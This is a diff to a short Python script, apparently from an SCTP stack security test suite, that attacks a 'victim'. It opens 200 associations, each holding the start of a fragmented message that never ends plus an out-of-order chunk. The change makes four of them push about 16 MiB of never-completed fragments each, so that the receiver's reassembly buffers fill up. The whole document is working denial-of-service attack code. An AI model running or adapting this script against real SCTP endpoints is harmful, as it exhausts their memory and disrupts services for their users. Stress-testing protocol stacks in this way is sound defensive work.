@@ -1,9 +1,11 @@
-"""Associations that say little and stay: each sends one byte as far ahead as it may, and the beginning of
-a message that never ends."""
+"""Associations that stay: each sends one byte as far ahead as it may, and the beginning of a message that
+never ends; of some of these there are 16 MiB."""
 from attack import main
 from sctp import Peer, data
 
 COUNT = 200
+LONG = 4
+PIECES = 16 * 1024 * 1024 // 1400
 
 
 def play(victim):
@@ -11,10 +13,14 @@ def play(victim):
     for n in range(COUNT):
         peer.port, peer.tag = 1024 + n, 1 + n
         peer.connect()
-        peer.send(data(peer.first + 1, b"x" * 1000, flags=2))
+        peer.send(data(peer.first, b"x" * 1000, flags=2))
         peer.send(data(peer.first + 65_534, b"x", ssn=1))
         peer.drain()
-    return COUNT
+        for piece in range(1, PIECES if n < LONG else 0):
+            peer.send(data(peer.first + piece, b"x" * 1400, flags=0))
+            if piece % 32 == 0:
+                peer.drain()
+    return COUNT + LONG * PIECES
 
 
 main(play, memory=96, most=128, cpu=3)
